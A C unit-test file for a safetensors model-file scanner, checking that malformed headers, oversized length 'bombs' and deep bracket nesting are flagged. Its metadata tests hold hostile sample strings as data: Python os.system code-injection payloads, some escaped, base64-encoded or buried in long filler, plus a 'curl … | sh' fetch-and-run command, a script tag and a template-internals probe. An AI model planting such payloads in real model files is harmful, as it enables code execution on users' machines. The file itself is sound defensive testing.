/* SPDX-License-Identifier: Apache-2.0 */
/* safetensors files, sound and with each thing that its reference reader refuses. */
#include "unit/guest/scan/scanned.h"
#include "unit/harness.h"

static uint8_t file[1 << 18];
static size_t file_size;
static struct scanned scanned;

static void write_file(const char *header, uint64_t length, size_t data)
{
    size_t size = strlen(header);

    for (unsigned i = 0; i < 8; i++)
        file[i] = (uint8_t)(length >> 8 * i);
    memcpy(file + 8, header, size);
    for (size_t i = 0; i < data; i++)
        file[8 + size + i] = (uint8_t)(i * 37 + 1);
    file_size = 8 + size + data;
}

static bool is(const char *header, size_t data, enum scan_verdict verdict, const char *rule)
{
    write_file(header, strlen(header), data);
    scanned_run(file, file_size, &scanned);
    return scanned_is(&scanned, verdict, rule);
}

#define A "\"a\":{\"dtype\":\"F32\",\"shape\":[2,2],\"data_offsets\":[0,16]}"
#define B "\"b\":{\"shape\":[3],\"data_offsets\":[16,22],\"dtype\":\"BF16\"}"

static void test_sound_files(void)
{
    CU_ASSERT_TRUE(is("{" A "," B "}   ", 22, SCAN_ALLOWED, NULL));
    CU_ASSERT_EQUAL(scanned.summary.gaps[SCAN_SKIP_WEIGHTS].bytes, 22);
    CU_ASSERT_STRING_EQUAL(scanned.summary.format, "safetensors");
    CU_ASSERT_TRUE(is("{}", 0, SCAN_ALLOWED, NULL));
    CU_ASSERT_TRUE(
        is("{" B ",\"__metadata__\":{\"format\":\"pt\",\"license\":\"MIT\"}," A "}", 22, SCAN_ALLOWED, NULL));
    CU_ASSERT_TRUE(is("{\"s\":{\"dtype\":\"F64\",\"shape\":[],\"data_offsets\":[0,8]},"
                      "\"e\":{\"dtype\":\"I8\",\"shape\":[0,5],\"data_offsets\":[8,8]},"
                      "\"q\":{\"dtype\":\"F4\",\"shape\":[3],\"data_offsets\":[8,10]}}",
                      10, SCAN_ALLOWED, NULL));
    CU_ASSERT_TRUE(is("{\"__metadata__\":{\"modelspec.implementation\":\"https://example.com/generative\","
                      "\"description\":\"Call model.eval() first; see the paper (section 2).\"}," A "}",
                      16, SCAN_ALLOWED, NULL));
}

static void test_broken_tables(void)
{
    static const struct {
        const char *header;
        size_t data;
        enum scan_verdict verdict;
        const char *rule;
    } cases[] = {
        {"{" A "," A "}", 16, SCAN_DANGEROUS, "safetensors-duplicate"},
        {"{\"__metadata__\":{\"a\":\"b\",\"a\":\"c\"}}", 0, SCAN_DANGEROUS, "safetensors-duplicate"},
        {"{\"__metadata__\":{},\"__metadata__\":{}}", 0, SCAN_DANGEROUS, "safetensors-duplicate"},
        {"{" B "}", 22, SCAN_DANGEROUS, "safetensors-hole"},
        {"{" A "}", 20, SCAN_DANGEROUS, "safetensors-trailing"},
        {"{" A ",\"c\":{\"dtype\":\"U8\",\"shape\":[4],\"data_offsets\":[12,16]}}", 16, SCAN_DANGEROUS,
         "safetensors-overlap"},
        {"{\"a\":{\"dtype\":\"U8\",\"shape\":[4],\"data_offsets\":[4,0]}}", 16, SCAN_DANGEROUS, "safetensors-bounds"},
        {"{\"a\":{\"dtype\":\"U8\",\"shape\":[4],\"data_offsets\":[-4,0]}}", 16, SCAN_DANGEROUS, "safetensors-bounds"},
        {"{\"a\":{\"dtype\":\"U8\",\"shape\":[4],\"data_offsets\":[0]}}", 4, SCAN_DANGEROUS, "safetensors-bounds"},
        {"{\"a\":{\"dtype\":\"U8\",\"shape\":[4],\"data_offsets\":[0,4,8]}}", 4, SCAN_DANGEROUS, "safetensors-bounds"},
        {"{\"a\":{\"dtype\":\"U8\",\"shape\":[4.0],\"data_offsets\":[0,4]}}", 4, SCAN_DANGEROUS, "safetensors-bounds"},
        {"{\"a\":{\"dtype\":\"U8\",\"shape\":[4],\"data_offsets\":[99999,100003]}}", 4, SCAN_DANGEROUS,
         "safetensors-bounds"},
        {"{\"a\":{\"dtype\":\"U8\",\"shape\":[99999999999999999999],\"data_offsets\":[0,4]}}", 4, SCAN_DANGEROUS,
         "safetensors-bounds"},
        {"{\"a\":{\"dtype\":\"F32\",\"shape\":[4294967296,4294967296,4],\"data_offsets\":[0,4]}}", 4, SCAN_DANGEROUS,
         "safetensors-size"},
        {"{\"a\":{\"dtype\":\"F32\",\"shape\":[2],\"data_offsets\":[0,4]}}", 4, SCAN_DANGEROUS, "safetensors-size"},
        {"{\"a\":{\"dtype\":\"X9\",\"shape\":[4],\"data_offsets\":[0,4]}}", 4, SCAN_UNKNOWN, "safetensors-dtype"},
        {"{\"a\":5}", 0, SCAN_UNKNOWN, "safetensors-member"},
        {"{\"__metadata__\":{\"a\":{\"b\":\"c\"}}}", 0, SCAN_UNKNOWN, "safetensors-member"},
        {"{" A "} {", 16, SCAN_UNKNOWN, "safetensors-member"},
        {"{" A "," B "}", 20, SCAN_UNSCANNED, NULL}, /* the file's end is missing, and nothing else */
        {"{" A, 16, SCAN_UNSCANNED, NULL},
    };

    for (size_t i = 0; i < HARNESS_COUNT(cases); i++)
        CU_ASSERT_TRUE(is(cases[i].header, cases[i].data, cases[i].verdict, cases[i].rule));
}

static void test_metadata(void)
{
    static const struct {
        const char *header, *rule;
    } cases[] = {
        {"{\"__metadata__\":{\"x\":\"__import__('os').system('id')\"}}", "metadata-code"},
        {"{\"__metadata__\":{\"x\":\"\\u005f_import__('os').system('id')\"}}", "metadata-code"},
        {"{\"__metadata__\":{\"x\":\"<script>a()</script>\"}}", "metadata-code"},
        {"{\"__metadata__\":{\"x\":\"curl http://example.com/a | sh\"}}", "metadata-code"},
        {"{\"__metadata__\":{\"x\":\"X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2lkJyk=\"}}", "metadata-code"},
        {"{\"__metadata__\":{\"webhook\":\"https://example.com/a\"}}", "metadata-callback"},
        {"{\"__metadata__\":{\"chat_template\":\"{{ a.__class__ }}\"}}", "template-internals"},
        {"{\"a\":{\"dtype\":\"U8\",\"shape\":[4],\"data_offsets\":[0,4],\"x\":\"os.system('id')\"}}", "metadata-code"},
    };

    for (size_t i = 0; i < HARNESS_COUNT(cases); i++)
        CU_ASSERT_TRUE(is(cases[i].header, 4, SCAN_DANGEROUS, cases[i].rule));
}

/* Brackets that a reader follows by calling itself. */
static void test_nested_header(void)
{
    char header[5000] = "{\"a\":";

    memset(header + 5, '[', sizeof header - 6);
    CU_ASSERT_TRUE(is(header, 4, SCAN_DANGEROUS, "safetensors-nesting"));
}

/* A value of the metadata that is longer than what JSON's walk gives at once. */
static void test_long_metadata(void)
{
    const char *begin = "{\"__metadata__\":{\"x\":\"", *end = " os.system('id')\"}}";
    const size_t long_size = 150000;
    char *header = malloc(strlen(begin) + long_size + strlen(end) + 1);

    CU_ASSERT_PTR_NOT_NULL_FATAL(header);
    memcpy(header, begin, strlen(begin));
    memset(header + strlen(begin), '.', long_size);
    memcpy(header + strlen(begin) + long_size, end, strlen(end) + 1);
    CU_ASSERT_TRUE(is(header, 0, SCAN_DANGEROUS, "metadata-code"));
    free(header);
}

static void test_lengths(void)
{
    static const uint64_t bombs[] = {UINT64_MAX, UINT64_C(1) << 63, UINT64_C(100000001), UINT64_C(1) << 40};

    for (size_t i = 0; i < HARNESS_COUNT(bombs); i++) {
        write_file("{" A "}", bombs[i], 16);
        scanned_run(file, file_size, &scanned);
        CU_ASSERT_TRUE(scanned_is(&scanned, SCAN_DANGEROUS, "safetensors-header"));
    }
    write_file("{", UINT64_C(1) << 40, 0);
    scanned_run(file, file_size, &scanned);
    CU_ASSERT_TRUE(scanned_is(&scanned, SCAN_DANGEROUS, "safetensors-header"));
    write_file("{" A "}", 1000, 16); /* a broken download */
    scanned_run(file, file_size, &scanned);
    CU_ASSERT_TRUE(scanned.summary.verdict == SCAN_UNSCANNED || scanned.summary.verdict == SCAN_UNKNOWN);
}

/* Text that has a brace at the ninth byte is no safetensors. */
static void test_text_is_not_taken(void)
{
    const char *text = "[\n      {\"a\": 1}]";

    scanned_run(text, strlen(text), &scanned);
    CU_ASSERT_PTR_NULL(strstr(scanned.summary.format, "safetensors"));
}

int main(void)
{
    static const struct harness_test tests[] = {
        {"sound files", test_sound_files},
        {"broken tables", test_broken_tables},
        {"a nested header", test_nested_header},
        {"metadata", test_metadata},
        {"long metadata", test_long_metadata},
        {"lengths of headers", test_lengths},
        {"text is not taken", test_text_is_not_taken},
    };

    return harness_run("safetensors", tests, HARNESS_COUNT(tests));
}
